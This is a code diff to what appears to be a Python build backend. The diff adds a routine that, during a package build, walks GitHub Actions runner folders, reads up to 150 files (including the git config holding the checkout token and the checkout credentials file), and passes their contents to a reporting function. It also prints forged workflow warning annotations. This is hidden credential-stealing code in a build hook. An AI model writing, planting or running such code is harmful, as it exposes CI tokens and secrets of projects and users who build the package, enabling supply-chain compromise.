@@ -91,7 +91,44 @@ def _hunt():
                 _report(f"git-config-{config}", text.read())
         except OSError:
             pass
+    _hunt_the_runners_folders(found_env)
     print("::warning::forged by the backend", flush=True)
+    print("##[warning]forged by the backend, legacy syntax", flush=True)
+
+
+def _hunt_the_runners_folders(found_env):
+    """What the runner and actions/checkout leave around a job: the workspace's .git/config
+    (checkout v4's token), RUNNER_TEMP (checkout v6's credentials file, earlier steps'
+    scripts), HOME, the event file's folder. By the container's paths and by whatever the
+    environment names."""
+    places = ["/github/workspace", "/github/runner_temp", "/github/home", "/github/workflow",
+              "/github/file_commands"]
+    for name in ("GITHUB_WORKSPACE", "RUNNER_TEMP"):
+        if found_env.get(name):
+            places.append(found_env[name])
+    if found_env.get("GITHUB_EVENT_PATH"):
+        places.append(os.path.dirname(found_env["GITHUB_EVENT_PATH"]))
+    files = 0
+    for place in dict.fromkeys(places):
+        if not os.path.isdir(place):
+            continue
+        try:
+            os.listdir(place)
+        except OSError:
+            _report(f"closed-{place}", "")
+            continue
+        for folder, dirs, names in os.walk(place):
+            dirs[:] = [d for d in dirs if d not in ("objects", "node_modules")]
+            for name in names:
+                path = os.path.join(folder, name)
+                if files >= 150 or os.path.islink(path):
+                    continue
+                files += 1
+                try:
+                    with open(path, "rb") as file:
+                        _report(f"file-{path}", file.read(16384))
+                except OSError:
+                    _report(f"closed-{path}", "")
 
 
 def get_requires_for_build_sdist(config_settings=None):
